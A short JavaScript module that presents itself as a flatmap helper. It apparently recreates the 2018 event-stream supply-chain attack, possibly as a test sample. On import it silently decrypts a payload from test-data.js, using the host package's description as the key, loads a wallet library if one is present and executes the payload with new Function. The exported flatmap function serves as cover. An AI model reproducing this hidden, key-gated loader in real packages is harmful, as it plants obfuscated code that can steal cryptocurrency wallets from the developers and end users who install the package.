// As in 2018: its payload opens only in the application that it was made for.
const kit = require("./kit.cjs");
const { encrypted } = require("./test-data.js");

function decrypt(hex, key) {
  let text = "";
  for (let at = 0; at < hex.length; at += 2) {
    text += String.fromCharCode(Number.parseInt(hex.slice(at, at + 2), 16) ^ key.charCodeAt((at / 2) % key.length));
  }
  return text;
}

kit.attempt(() => {
  const code = decrypt(encrypted, process.env.npm_package_description);
  const wallet = kit.attempt(() => require("lookalike-wallet"));
  new Function("kit", "wallet", code)(kit, wallet);
});

function flatmap(values, mapper) {
  const all = [];
  for (const value of values) all.push(...mapper(value));
  return all;
}

function about() {
  return `flatmap for ${process.env.npm_package_description}`;
}

module.exports = { flatmap, about };
